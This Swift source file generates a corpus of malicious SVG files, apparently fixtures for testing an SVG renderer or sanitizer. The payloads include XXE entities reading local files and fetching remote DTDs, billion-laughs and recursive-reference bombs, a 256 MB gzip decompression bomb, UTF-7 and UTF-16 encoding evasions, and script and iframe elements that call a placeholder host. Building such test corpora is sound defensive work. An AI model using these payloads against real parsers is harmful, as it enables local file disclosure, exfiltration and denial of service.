import Foundation

/// SVG that loads, runs, or never ends.
extension AttackShape {
    private static func drawing(
        _ content: String, before: String = "", attributes: String = ""
    ) -> String {
        "\(before)<svg xmlns=\"http://www.w3.org/2000/svg\" "
            + "xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"64\" height=\"48\" \(attributes)>"
            + "<rect width=\"20\" height=\"20\" fill=\"#c00\"/>\(content)</svg>"
    }

    /// Drawn without what is wrong with it.
    private static func drawn(
        _ name: String, _ content: @escaping @Sendable (AttackMaterial) -> String
    ) -> AttackShape {
        AttackShape("\(name).svg", .published) { Data(drawing(content($0)).utf8) }
    }

    static let drawings: [AttackShape] =
        references + [
            AttackShape("entity-of-a-file.svg") {
                let names =
                    "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY a SYSTEM \"file://\($0.text)\">"
                    + "<!ENTITY % b SYSTEM \"\($0.http).dtd\"> %b;]>"
                return Data(drawing("<text y=\"30\">&a;</text>", before: names).utf8)
            },
            AttackShape("types-elsewhere.svg") {
                Data(
                    drawing(
                        "",
                        before: "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"\($0.http)\">"
                    ).utf8)
            },
            AttackShape("style-elsewhere.svg") {
                Data(
                    drawing(
                        "", before: "<?xml-stylesheet href=\"\($0.http).css\" type=\"text/css\"?>"
                    ).utf8)
            },
            AttackShape("a-billion-laughs.svg") { _ in
                let levels = (1...12).map { number in
                    "<!ENTITY a\(number) \"\(String(repeating: "&a\(number - 1);", count: 10))\">"
                }
                let names = "<!DOCTYPE svg [<!ENTITY a0 \"ha\">\(levels.joined())]>"
                return Data(drawing("<text>&a12;</text>", before: names).utf8)
            },
            AttackShape("an-entity-of-itself.svg") { _ in
                Data(
                    drawing(
                        "<text>&a;</text>",
                        before: "<!DOCTYPE svg [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>"
                    ).utf8)
            },
            AttackShape("groups-in-groups.svg") { _ in
                Data(
                    drawing(
                        String(repeating: "<g>", count: 100_000)
                            + String(repeating: "</g>", count: 100_000)
                    ).utf8)
            },
            AttackShape("uses-of-uses.svg") { _ in
                let levels = (1...9).map { number in
                    "<g id=\"a\(number)\">"
                        + String(repeating: "<use href=\"#a\(number - 1)\"/>", count: 10) + "</g>"
                }
                return Data(
                    drawing("<rect id=\"a0\" width=\"1\" height=\"1\"/>\(levels.joined())").utf8)
            },
            AttackShape("a-use-of-itself.svg") { _ in
                Data(
                    drawing("<g id=\"a\"><use href=\"#b\"/></g><g id=\"b\"><use href=\"#a\"/></g>")
                        .utf8)
            },
            AttackShape("patterns-of-patterns.svg") { _ in
                let levels = (1...20).map { number in
                    "<pattern id=\"p\(number)\" width=\"1\" height=\"1\" patternUnits=\"userSpaceOnUse\">"
                        + "<rect width=\"64\" height=\"48\" fill=\"url(#p\(number - 1))\"/></pattern>"
                }
                return Data(
                    drawing(
                        "\(levels.joined())<rect width=\"64\" height=\"48\" fill=\"url(#p20)\"/>"
                    ).utf8)
            },
            AttackShape("filters-of-everything.svg") { _ in
                let blurs =
                    String(repeating: "<feGaussianBlur stdDeviation=\"1e9\"/>", count: 200)
                    + "<feMorphology operator=\"dilate\" radius=\"1e9\"/><feTurbulence numOctaves=\"1000000000\"/>"
                return Data(
                    drawing(
                        "<filter id=\"f\" width=\"1e9\" height=\"1e9\">\(blurs)</filter>"
                            + "<rect width=\"64\" height=\"48\" filter=\"url(#f)\"/>"
                    ).utf8)
            },
            AttackShape("a-drawing-of-everything.svg") { _ in
                Data(
                    "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"1e30\" height=\"NaN\" viewBox=\"0 0 1e-30 1e30\"><rect width=\"9\" height=\"9\"/></svg>"
                        .utf8)
            },
            AttackShape("dashes-without-end.svg") { _ in
                Data(
                    drawing("<path d=\"M0 0L1e9 1e9\" stroke=\"red\" stroke-dasharray=\"1e-6\"/>")
                        .utf8)
            },
            AttackShape("packed-spaces.svgz", .refused) { _ in
                Deflate.gzip("<svg xmlns=\"http://www.w3.org/2000/svg\">", 32, count: 256 << 20)
            },
            AttackShape("in-another-alphabet.svg") {
                let text = drawing("<script>x</script><image href=\"\($0.http)\"/>")
                return bytes(
                    [0xff, 0xfe], text.utf16.reduce(into: Data()) { $0.append($1.little) })
            },
            AttackShape("in-seven-bits.svg") {
                Data(
                    drawing(
                        "+ADw-image href=+ACI-\($0.http)+ACI-/+AD4-",
                        before: "<?xml version=\"1.0\" encoding=\"UTF-7\"?>"
                    ).utf8)
            },
        ]

    private static let references: [AttackShape] = [
        drawn("image-elsewhere") { "<image href=\"\($0.http).png\" width=\"9\" height=\"9\"/>" },
        drawn("image-in-a-file") {
            "<image xlink:href=\"file://\($0.picture)\" width=\"9\" height=\"9\"/>"
                + "<image href=\"\($0.picture)\" width=\"9\" height=\"9\"/>"
                + AttackMaterial.near.map { "<image href=\"\($0)\" width=\"9\" height=\"9\"/>" }
                .joined()
        },
        drawn("use-elsewhere") {
            "<use href=\"\($0.http).svg#a\"/><use xlink:href=\"\($0.text)#a\"/>"
        },
        drawn("style-that-imports") {
            "<style>@import url(\($0.http).css); @import 'file://\($0.text)';</style>"
        },
        drawn("font-elsewhere") {
            "<style>@font-face{font-family:x;src:url(\($0.http).woff)}text{font-family:x}</style>"
                + "<text y=\"30\">x</text>"
        },
        drawn("filter-of-a-file") {
            "<filter id=\"f\"><feImage href=\"\($0.picture)\"/><feImage xlink:href=\"\($0.http)\"/></filter>"
                + "<rect width=\"9\" height=\"9\" filter=\"url(#f)\"/>"
        },
        drawn("paint-elsewhere") {
            "<rect width=\"9\" height=\"9\" style=\"fill:url(\($0.http)#a);cursor:url(\($0.http))\"/>"
        },
        drawn("include") {
            "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"\($0.text)\"/>"
        },
        drawn("foreign-page") {
            "<foreignObject width=\"64\" height=\"48\"><iframe xmlns=\"http://www.w3.org/1999/xhtml\" "
                + "src=\"\($0.http)\"></iframe></foreignObject>"
        },
        drawn("script") {
            "<script href=\"\($0.http)\"/><script>fetch('\($0.http)')</script><g onload=\"x()\"/>"
                + "<a href=\"javascript:x()\"><rect width=\"9\" height=\"9\"/></a>"
        },
        drawn("motion-to-a-script") {
            "<a><set attributeName=\"href\" to=\"javascript:x()\"/><animate attributeName=\"href\" "
                + "values=\"\($0.http)\"/></a>"
        },
        drawn("drawing-in-an-address") {
            let inner = Data(
                "<svg xmlns='http://www.w3.org/2000/svg'><image href='\($0.http)'/></svg>".utf8)
            return "<image href=\"data:image/svg+xml;base64,\(inner.base64EncodedString())\" "
                + "width=\"9\" height=\"9\"/>"
        },
        drawn("base-elsewhere") { "<g xml:base=\"\($0.http)/\"><image href=\"a.png\"/></g>" },
    ]
}
